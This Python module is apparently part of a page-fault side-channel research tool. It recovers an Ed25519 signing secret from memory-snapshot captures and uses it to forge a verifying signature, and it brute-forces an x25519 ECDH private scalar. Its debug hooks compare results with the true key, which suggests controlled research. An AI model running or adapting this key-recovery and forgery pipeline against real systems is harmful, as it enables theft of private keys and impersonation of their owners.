"""Offline key recovery pipelines for the EdDSA and ECDH captures."""

from __future__ import annotations

import logging
from pathlib import Path
from typing import Sequence

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey

from pagefault_cracker.analysis.ecdh_swaps import (
    bits_to_scalar,
    clamp_scalar_bits,
    mismatch_count,
    recover_swap_bits,
    scalar_from_swaps,
    split_streams,
    swap_candidate_offsets,
)
from pagefault_cracker.analysis.eddsa_digits import (
    recover_signed_digits,
    signed_to_unsigned,
    unsigned_to_packed,
    validate_digits_against_r,
    window3_digits,
)
from pagefault_cracker.analysis.eddsa_forge import (
    message_digest_reduced,
    parse_signature,
    public_key_from_secret,
    recover_intermediate_secret,
    sign_with_intermediate_secret,
    verify_signature,
)
from pagefault_cracker.analysis.offsets import candidate_offsets
from pagefault_cracker.utils.constants import FORGED_MESSAGE
from pagefault_cracker.utils.errors import ParseError, ValidationFailure
from pagefault_cracker.utils.types import (
    EcdhAttackConfig,
    EcdhCandidate,
    EcdhRecoveryResult,
    EdDSAAttackConfig,
    EdDSARecoveryResult,
    FaultEvent,
    RecoveryCandidates,
)

logger = logging.getLogger(__name__)


def load_debug_seed(path: str | Path) -> bytes:
    """Read the 32-byte ed25519 seed from an OpenSSH private key file."""
    with open(path, "rb") as f:
        key = serialization.load_ssh_private_key(f.read(), password=None)
    if not isinstance(key, Ed25519PrivateKey):
        raise ParseError(f"{path} is not an ed25519 private key")
    return key.private_bytes(
        serialization.Encoding.Raw,
        serialization.PrivateFormat.Raw,
        serialization.NoEncryption(),
    )


def x25519_public_key(scalar: bytes) -> bytes:
    private = X25519PrivateKey.from_private_bytes(scalar)
    return private.public_key().public_bytes(
        serialization.Encoding.Raw, serialization.PublicFormat.Raw
    )


class EdDSARecovery:
    """Recover the signing secret from an EdDSA capture and prove it with a forgery.

    Args:
        config: Attack configuration written by the capture.
        specific_offset: Only consider this page offset.
        debug_seed: Private key seed of the victim. Enables a per-offset
            comparison with the true digits.
    """

    def __init__(
        self,
        config: EdDSAAttackConfig,
        specific_offset: int | None = None,
        debug_seed: bytes | None = None,
        forged_message: bytes = FORGED_MESSAGE,
    ) -> None:
        self.config = config
        self.specific_offset = specific_offset
        self.forged_message = forged_message
        self.true_digits: list[int] | None = None
        if debug_seed is not None:
            reduced = message_digest_reduced(debug_seed, config.transcript.message)
            self.true_digits = window3_digits(reduced, config.main_loop_cycles)

    def scan_offsets(self, snapshots: Sequence[FaultEvent]) -> set[int]:
        cfg = self.config
        offsets = candidate_offsets(
            snapshots,
            cfg.main_loop_cycles,
            cfg.mem_accesses_per_cycle,
            cfg.stack_buf_alignment,
            cfg.stack_buf_bytes,
        )
        logger.debug("offsets with change: %s", " ".join(f"{o:03x}" for o in sorted(offsets)))
        if self.specific_offset is not None:
            logger.info("restricting search to offset %03x", self.specific_offset)
            self._dump_offset(snapshots, self.specific_offset)
            return {self.specific_offset}
        return offsets

    def _dump_offset(self, snapshots: Sequence[FaultEvent], offset: int) -> None:
        cfg = self.config
        for cycle in range(cfg.main_loop_cycles):
            for rel in range(cfg.mem_accesses_per_cycle - 1):
                content = snapshots[cycle * cfg.mem_accesses_per_cycle + rel].require_content()
                logger.debug(
                    "cycle %02d %s", cycle, content[offset:offset + cfg.stack_buf_bytes].hex()
                )

    def _check_against_truth(self, offset: int, digits: list[int]) -> None:
        if self.true_digits is None:
            return
        correct = True
        for i in range(1, self.config.main_loop_cycles):
            if digits[i] != self.true_digits[i]:
                logger.debug("offset %03x: digit %d is %d, want %d", offset, i, digits[i], self.true_digits[i])
                correct = False
        if correct:
            logger.info("debug check, offset %03x: digits are correct except digit 0", offset)

    def recover_digits(
        self, snapshots: Sequence[FaultEvent], offsets: set[int], encoded_r: bytes
    ) -> RecoveryCandidates:
        """Recover and R-validate the digit sequence of every offset."""
        cfg = self.config
        candidates = RecoveryCandidates()
        for offset in sorted(offsets):
            digits = recover_signed_digits(
                offset, snapshots, cfg.main_loop_cycles,
                cfg.mem_accesses_per_cycle, cfg.stack_buf_bytes,
            )
            if digits is None:
                candidates.discard(offset)
                continue
            logger.debug("offset %03x: recovered signed digits %s", offset, digits)
            self._check_against_truth(offset, digits)

            validated = validate_digits_against_r(digits, encoded_r)
            if validated is None:
                candidates.discard(offset)
                continue
            candidates.accept(offset, validated)

        logger.info(
            "discarded offsets: %s", " ".join(f"{o:03x}" for o in sorted(candidates.discarded))
        )
        logger.info(
            "%d out of %d offsets yield digits matching R", len(candidates), len(offsets)
        )
        return candidates

    def forge(self, digits: list[int], s: bytes) -> tuple[int, bytes]:
        """Extract the secret from validated digits and sign the forged message.

        Raises ValidationFailure if the forgery does not verify.
        """
        transcript = self.config.transcript
        packed = unsigned_to_packed(signed_to_unsigned(digits))
        reduced = int.from_bytes(packed, "little")
        secret = recover_intermediate_secret(
            transcript.message, reduced, s, transcript.public_key
        )
        logger.debug("recomputed public key: %s", public_key_from_secret(secret).hex())
        signature = sign_with_intermediate_secret(
            self.forged_message, secret, transcript.public_key
        )
        if not verify_signature(transcript.public_key, self.forged_message, signature):
            raise ValidationFailure("forged signature does not verify")
        return secret, signature

    def run(self, events: Sequence[FaultEvent]) -> EdDSARecoveryResult:
        snapshots = [e for e in events if e.has_access_data]
        logger.info("%d events, %d with memory snapshots", len(events), len(snapshots))

        try:
            encoded_r, s = parse_signature(self.config.transcript.signature)
        except ValueError as exc:
            raise ParseError(f"captured signature: {exc}") from exc

        offsets = self.scan_offsets(snapshots)
        candidates = self.recover_digits(snapshots, offsets, encoded_r)
        result = EdDSARecoveryResult(
            candidates=candidates,
            offsets_scanned=len(offsets),
            forged_message=self.forged_message,
        )

        for offset, digits in sorted(candidates.sequences.items()):
            try:
                secret, signature = self.forge(digits, s)
            except ValidationFailure as exc:
                logger.debug("offset %03x: %s", offset, exc)
                continue
            logger.info("offset %03x: forged signature verifies", offset)
            result.offset = offset
            result.intermediate_secret = secret
            result.forged_signature = signature
            break
        return result


class EcdhRecovery:
    """Recover the x25519 scalar from an ECDH capture.

    Candidates are checked against the ground-truth key bits and/or the
    victim's public key when given.
    """

    def __init__(
        self,
        config: EcdhAttackConfig,
        specific_offset: int | None = None,
        reference_bits: list[int] | None = None,
        public_key: bytes | None = None,
        mismatch_limit: int = 5,
    ) -> None:
        self.config = config
        self.specific_offset = specific_offset
        self.reference_bits = clamp_scalar_bits(reference_bits) if reference_bits else None
        self.public_key = public_key
        self.mismatch_limit = mismatch_limit

    @property
    def has_reference(self) -> bool:
        return self.reference_bits is not None or self.public_key is not None

    def evaluate(self, offset: int, swaps: list[int]) -> list[EcdhCandidate]:
        """Brute-force the unobserved top swap bits and check every resulting scalar."""
        positions = self.config.layout.unknown_positions
        out = []
        for guess in range(1 << len(positions)):
            trial = list(swaps)
            for i, pos in enumerate(positions):
                trial[pos] = (guess >> (len(positions) - 1 - i)) & 1
            bits = clamp_scalar_bits(scalar_from_swaps(trial))
            candidate = EcdhCandidate(offset=offset, top_swap_guess=guess, scalar_bits=bits)
            if self.reference_bits is not None:
                candidate.mismatches = mismatch_count(bits, self.reference_bits, self.mismatch_limit)
            if self.public_key is not None:
                candidate.public_key_match = x25519_public_key(bits_to_scalar(bits)) == self.public_key
            out.append(candidate)
        return out

    def run(self, events: Sequence[FaultEvent]) -> EcdhRecoveryResult:
        layout = self.config.layout
        base, second = split_streams(events, self.config)
        logger.info("%d base page events, %d second page events", len(base), len(second))

        offsets = swap_candidate_offsets(base, second, layout)
        result = EcdhRecoveryResult(candidates=RecoveryCandidates(), reference_bits=self.reference_bits)
        if self.specific_offset is not None:
            if self.specific_offset not in offsets:
                logger.warning(
                    "no changes at offset %03x in the snapshots, cannot recover the key",
                    self.specific_offset,
                )
                return result
            logger.info("restricting search to offset %03x", self.specific_offset)
            offsets = {self.specific_offset}

        logger.info("computing %d key candidates", len(offsets))
        for offset in sorted(offsets):
            swaps = recover_swap_bits(offset, base, second, layout)
            scored = self.evaluate(offset, swaps)
            result.scalars.extend(scored)
            if self.has_reference and not any(c.valid for c in scored):
                result.candidates.discard(offset)
            else:
                result.candidates.accept(offset, swaps)
        return result
